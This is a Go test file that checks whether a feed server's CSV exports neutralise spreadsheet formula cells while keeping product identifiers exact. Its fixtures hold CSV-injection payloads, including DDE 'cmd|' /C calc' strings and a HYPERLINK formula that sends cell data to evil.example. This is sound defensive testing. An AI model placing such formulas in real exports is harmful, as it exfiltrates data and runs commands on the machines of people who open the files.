package feeds_test

import (
	"encoding/csv"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
)

// formulaStart is what a spreadsheet evaluates (OWASP, CSV Injection).
var formulaStart = regexp.MustCompile(`^[=+\-@\t\r]`)

// plainNumberCell is a number, which a spreadsheet shows and never runs.
var plainNumberCell = regexp.MustCompile(`^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)$`)

// checkCells fails for every cell a spreadsheet would run as a formula,
// except in the columns named exact.
func checkCells(t *testing.T, file string, recs [][]string, exact ...string) {
	t.Helper()
	for i, rec := range recs {
		for j, cell := range rec {
			if slices.Contains(exact, recs[0][j]) {
				continue
			}
			if formulaStart.MatchString(cell) && !plainNumberCell.MatchString(cell) {
				t.Errorf("%s row %d column %s: %q would run as a formula", file, i, recs[0][j], cell)
			}
		}
	}
}

// meta.csv and the member export neutralise cells that start a formula,
// and keep numbers and the neutralised text readable. meta.csv's
// identifier columns are the exception: Meta matches the pixel's
// content_ids (and remarket the offer token and the Google feed) against
// the id exactly, so "'@evil" would be another product. The trade-off is
// that a spreadsheet opening meta.csv runs such an id of the shop's own
// catalog; free text (titles, descriptions, reasons) is still neutralised.
func TestCSVFilesNeutraliseFormulas(t *testing.T) {
	s := newServer(t, testConfig(t))
	item := func(id, title string) product {
		return product{ID: id, Title: title, Link: "https://shop.example/" + id, Image: "https://cdn.example/" + id + ".jpg",
			Price: 10, Currency: "USD", Brand: "+cmd|' /C calc'!A0", Description: "-2+3+cmd|' /C calc'!A0",
			MPN: "-" + id, GroupID: "=" + id}
	}
	s.fx.products("shop",
		item("@evil", `=HYPERLINK("http://evil.example/?"&A1,"Click")`),
		item("-5", "@SUM(1+1)*cmd|' /C calc'!A0"),
		item("anchor", "=1+1 anchor"),
	)
	s.fx.run("shop", "r1", runFinished, "cart", 3)
	s.fx.list("shop", "r1", "cart",
		listed{Product: "@evil", Anchor: "anchor", Strategy: "cross_sell", Reason: "=Goes with", Motivation: "-new", Rank: 1},
		listed{Product: "-5", Strategy: "upsell", Reason: "+Upgrade", Rank: 2},
	)
	s.now = runFinished.Add(time.Hour)

	rec := s.get("/feeds/shop/cart/meta.csv?token=" + feedToken)
	if rec.Code != http.StatusOK {
		t.Fatalf("meta.csv: %d %s", rec.Code, rec.Body)
	}
	recs, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
	if err != nil || len(recs) != 3 {
		t.Fatalf("meta.csv: %v %q", err, recs)
	}
	checkCells(t, "meta.csv", recs, "id", "mpn", "item_group_id")
	col := map[string]int{}
	for i, name := range recs[0] {
		col[name] = i
	}
	evil, five := recs[1], recs[2]
	if evil[col["id"]] != "@evil" || evil[col["mpn"]] != "-@evil" || evil[col["item_group_id"]] != "=@evil" || five[col["id"]] != "-5" {
		t.Errorf("meta.csv changed identifiers: %q", recs[1:])
	}
	if !strings.HasPrefix(evil[col["title"]], `'=HYPERLINK(`) || evil[col["brand"]] != "'+cmd|' /C calc'!A0" || !strings.HasPrefix(evil[col["custom_label_2"]], "'=Goes with") {
		t.Errorf("meta.csv left free text a formula: %q", recs[1:])
	}
	// The Google feed, the pixel and the offer token name the same id.
	if body := s.get("/feeds/shop/cart/google.xml?token=" + feedToken).Body.String(); !strings.Contains(body, "<g:id>@evil</g:id>") {
		t.Errorf("google.xml lacks <g:id>@evil</g:id>: %s", body)
	}

	s.fx.members("shop", "r1", "cart",
		member{Visitor: `=cmd|' /C calc'!A0`, User: "@SUM(1)"},
		member{Visitor: "\t=1+1", User: "+1"},
		member{Visitor: "-5", User: "-x", EmailSHA: strings.Repeat("a", 64)},
	)
	rec = s.get("/api/sites/shop/audiences/cart/members", "Authorization", "Bearer "+adminToken)
	if rec.Code != http.StatusOK {
		t.Fatalf("members: %d %s", rec.Code, rec.Body)
	}
	recs, err = csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
	if err != nil || len(recs) != 4 {
		t.Fatalf("members csv: %v %q", err, recs)
	}
	checkCells(t, "members.csv", recs)
	got := map[string]string{}
	for _, r := range recs[1:] {
		got[r[0]] = r[1]
	}
	if got["'=cmd|' /C calc'!A0"] != "'@SUM(1)" || got["'\t=1+1"] != "+1" || got["-5"] != "'-x" {
		t.Errorf("members csv %q", recs)
	}
	// JSON lines are not a spreadsheet format: the ids stay exact there.
	if body := s.get("/api/sites/shop/audiences/cart/members?format=jsonl", "Authorization", "Bearer "+adminToken).Body.String(); !strings.Contains(body, `"visitor_id":"=cmd|' /C calc'!A0"`) {
		t.Errorf("jsonl changed the ids: %s", body)
	}
}
